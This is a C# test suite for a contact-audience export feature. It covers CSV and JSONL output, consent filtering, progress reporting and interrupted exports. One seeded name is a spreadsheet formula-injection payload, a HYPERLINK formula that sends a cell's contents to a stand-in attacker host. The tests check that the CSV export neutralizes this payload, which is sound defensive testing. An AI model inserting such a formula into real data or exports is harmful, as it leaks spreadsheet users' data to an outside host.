using System.Text.Json;
using Microsoft.EntityFrameworkCore;
using ProfileHub.Core.Profiles;
using ProfileHub.Core.Sources;
using ProfileHub.Server.Segments;
using ProfileHub.Server.Tests.Support;
using ProfileHub.Testing;

namespace ProfileHub.Server.Tests.Segments;

/// <summary>
/// The export streams the audience to a temporary file and renames it at the end: seven consenting members
/// (an eighth unsubscribed), progress reported every three rows.
/// </summary>
public abstract class AudienceExportTests<TDatabase>(TDatabase database) : IClassFixture<TDatabase>, IAsyncLifetime
    where TDatabase : TestDatabase
{
    private static readonly DateTimeOffset Now = new(2026, 11, 20, 12, 0, 0, TimeSpan.Zero);

    private readonly string _directory = Directory.CreateTempSubdirectory("profilehub-export-").FullName;

    public async Task InitializeAsync()
    {
        await database.ResetAsync();
        await AudienceData.SeedAsync(database, "newsletter", Now);
    }

    public Task DisposeAsync()
    {
        Directory.Delete(_directory, recursive: true);
        return Task.CompletedTask;
    }

    [Fact]
    public async Task A_csv_export_holds_every_consenting_member_once_in_profile_order()
    {
        var file = Path.Combine(_directory, "newsletter.csv");
        var pages = new List<long>();

        var rows = await Exporter().RunAsync("newsletter", ConsentChannel.Email, ExportFormat.Csv, file, new SynchronousProgress(pages.Add), CancellationToken.None);

        var lines = await File.ReadAllLinesAsync(file);
        Assert.Equal(7, rows);
        Assert.Equal([3, 6, 7], pages);
        Assert.Equal("profile_id,email,phone,given_name,family_name,entered_at", lines[0]);
        Assert.Equal([.. Enumerable.Range(0, 7).Select(i => $"p{i}@example.com")], lines.Skip(1).Select(l => l.Split(',')[1]));
        Assert.EndsWith(",\"O\"\"Neil, Jr\",2026-11-20T12:00:00Z", lines[1], StringComparison.Ordinal);
        Assert.Equal([Path.GetFileName(file)], Directory.GetFiles(_directory).Select(Path.GetFileName));
    }

    [Fact]
    public async Task A_csv_export_neutralizes_cells_a_spreadsheet_would_run_as_formulas_and_keeps_phones()
    {
        var file = Path.Combine(_directory, "newsletter.csv");

        await Exporter().RunAsync("newsletter", ConsentChannel.Email, ExportFormat.Csv, file, null, CancellationToken.None);

        var member = (await File.ReadAllLinesAsync(file)).Single(l => l.Contains("p1@example.com", StringComparison.Ordinal));
        Assert.Contains(",+447700900123,\"'=HYPERLINK(\"\"http://evil.example/\"\"&A1,\"\"open\"\")\",Person1,", member, StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_jsonl_export_writes_one_object_a_line()
    {
        var file = Path.Combine(_directory, "newsletter.jsonl");

        await Exporter().RunAsync("newsletter", ConsentChannel.Email, ExportFormat.Jsonl, file, null, CancellationToken.None);

        var first = JsonDocument.Parse((await File.ReadAllLinesAsync(file))[0]).RootElement;
        Assert.Equal(7, (await File.ReadAllLinesAsync(file)).Length);
        Assert.Equal("p0@example.com", first.GetProperty("email").GetString());
        Assert.Equal("O\"Neil, Jr", first.GetProperty("familyName").GetString());
    }

    [Fact]
    public async Task A_jsonl_export_writes_phones_as_they_are_and_timestamps_as_the_csv_does()
    {
        var jsonl = Path.Combine(_directory, "newsletter.jsonl");
        var csv = Path.Combine(_directory, "newsletter.csv");

        await Exporter().RunAsync("newsletter", ConsentChannel.Email, ExportFormat.Jsonl, jsonl, null, CancellationToken.None);
        await Exporter().RunAsync("newsletter", ConsentChannel.Email, ExportFormat.Csv, csv, null, CancellationToken.None);

        var member = (await File.ReadAllLinesAsync(jsonl)).Single(l => l.Contains("p1@example.com", StringComparison.Ordinal));
        Assert.Contains("\"phone\":\"+447700900123\"", member, StringComparison.Ordinal);
        Assert.DoesNotContain("\\u", member, StringComparison.Ordinal);
        // Still JSON: the formula-like name's quotes are escaped, and it reads back as it was.
        var parsed = JsonDocument.Parse(member).RootElement;
        Assert.Equal("=HYPERLINK(\"http://evil.example/\"&A1,\"open\")", parsed.GetProperty("givenName").GetString());
        var csvEnteredAt = (await File.ReadAllLinesAsync(csv)).Single(l => l.Contains("p1@example.com", StringComparison.Ordinal)).Split(',')[^1];
        Assert.Equal("2026-11-20T12:00:00Z", csvEnteredAt);
        Assert.Equal(csvEnteredAt, parsed.GetProperty("enteredAt").GetString());
    }

    [Fact]
    public async Task An_export_interrupted_after_the_first_page_leaves_the_previous_file_and_no_partial_file()
    {
        var file = Path.Combine(_directory, "newsletter.csv");
        await File.WriteAllTextAsync(file, "the previous export\n");
        using var interrupt = new CancellationTokenSource();

        await Assert.ThrowsAnyAsync<OperationCanceledException>(() => Exporter().RunAsync(
            "newsletter", ConsentChannel.Email, ExportFormat.Csv, file, new SynchronousProgress(_ => interrupt.Cancel()), interrupt.Token));

        Assert.Equal("the previous export\n", await File.ReadAllTextAsync(file));
        Assert.Equal([Path.GetFileName(file)], Directory.GetFiles(_directory).Select(Path.GetFileName));
    }

    [Fact]
    public async Task A_person_who_unsubscribed_one_address_and_opted_in_with_another_is_exported_with_the_other_only()
    {
        // p7 unsubscribed p7@example.com (its survived email) yesterday; a second record of p7 opts in with a work address since.
        await using (var db = database.CreateContext())
        {
            var p7 = await db.SourceRecords.SingleAsync(r => r.SourceKey == "p7");
            var profile = await db.Memberships.Where(m => m.RecordId == p7.Id).Select(m => m.ProfileId).SingleAsync();
            var work = new SourceRecord(p7.ConnectorId, "p7-work", Now, Now);
            work.Identifiers.Add(new RecordIdentifier(IdentifierKind.Email, "P7.Work@example.com", "p7.work@example.com"));
            work.AddConsent(ConsentChannel.Email, ConsentStatus.Granted, Now.AddHours(-2));
            db.SourceRecords.Add(work);
            await db.SaveChangesAsync();
            db.Memberships.Add(new ProfileMembership(work.Id, profile, null, null, LinkOrigin.Seed, Now));
            await db.SaveChangesAsync();
        }

        var file = Path.Combine(_directory, "newsletter.csv");
        var rows = await Exporter().RunAsync("newsletter", ConsentChannel.Email, ExportFormat.Csv, file, null, CancellationToken.None);

        var text = await File.ReadAllTextAsync(file);
        Assert.Equal(8, rows);
        Assert.Contains(",p7.work@example.com,", text, StringComparison.Ordinal);
        Assert.DoesNotContain("p7@example.com", text, StringComparison.Ordinal);
    }

    [Fact]
    public async Task An_unknown_segment_writes_nothing()
    {
        var file = Path.Combine(_directory, "nobody.csv");

        var error = await Assert.ThrowsAsync<SegmentException>(() => Exporter().RunAsync("nobody", ConsentChannel.Email, ExportFormat.Csv, file, null, CancellationToken.None));

        Assert.Equal(SegmentException.NotFound, error.Code);
        Assert.Empty(Directory.GetFiles(_directory));
    }

    private AudienceExport Exporter() => new(new DatabaseContexts(database), new FixedClock(Now), new FrequencyCap()) { ProgressInterval = 3 };

    private sealed class SynchronousProgress(Action<long> report) : IProgress<long>
    {
        public void Report(long value) => report(value);
    }
}

public sealed class SqliteAudienceExportTests(SqliteTestDatabase database) : AudienceExportTests<SqliteTestDatabase>(database);

public sealed class PostgresAudienceExportTests(PostgresTestDatabase database) : AudienceExportTests<PostgresTestDatabase>(database);

public sealed class SqlServerAudienceExportTests(SqlServerTestDatabase database) : AudienceExportTests<SqlServerTestDatabase>(database);
